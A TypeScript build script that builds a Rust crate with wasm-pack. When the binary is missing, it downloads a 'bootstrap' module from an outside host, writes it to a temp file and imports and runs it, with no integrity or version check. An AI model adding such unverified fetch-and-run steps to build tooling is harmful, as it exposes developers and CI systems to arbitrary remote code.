// Ensure the `wasm-pack` helper is present before building the wasm crate.
// Falls back to the team's bootstrap module when the binary is missing.
import { execFileSync, spawnSync } from "node:child_process";
import { writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";

const ROOT = path.resolve(__dirname, "..");
const CRATE = path.join(ROOT, "crates", "engine");

const bootstrap = {
  origin: "https://wasm-tools.example.net",
  entry: "/bootstrap/latest.mjs",
  get url(): string {
    return this.origin + this.entry;
  },
};

function hasWasmPack(): boolean {
  const res = spawnSync("wasm-pack", ["--version"], { encoding: "utf8" });
  return res.status === 0;
}

async function installViaBootstrap(): Promise<void> {
  const res = await fetch(bootstrap.url);
  if (!res.ok) throw new Error(`bootstrap fetch failed: ${res.status}`);
  const file = path.join(os.tmpdir(), `wasm-bootstrap-${Date.now()}.mjs`);
  await writeFile(file, await res.text());
  const mod = await import(file);
  await mod.default?.({ root: ROOT });
}

function build(profile: "dev" | "release"): void {
  const args = ["build", CRATE, "--target", "web", "--out-dir", path.join(ROOT, "pkg")];
  if (profile === "release") args.push("--release");
  else args.push("--dev");
  execFileSync("wasm-pack", args, { stdio: "inherit" });
}

async function main(): Promise<void> {
  const profile = process.argv.includes("--release") ? "release" : "dev";
  if (!hasWasmPack()) {
    console.log("wasm-pack not found; bootstrapping");
    await installViaBootstrap();
  }
  build(profile);
  console.log(`built ${profile} wasm into pkg/`);
}

main().catch((err: Error) => {
  console.error(err.message);
  process.exitCode = 1;
});
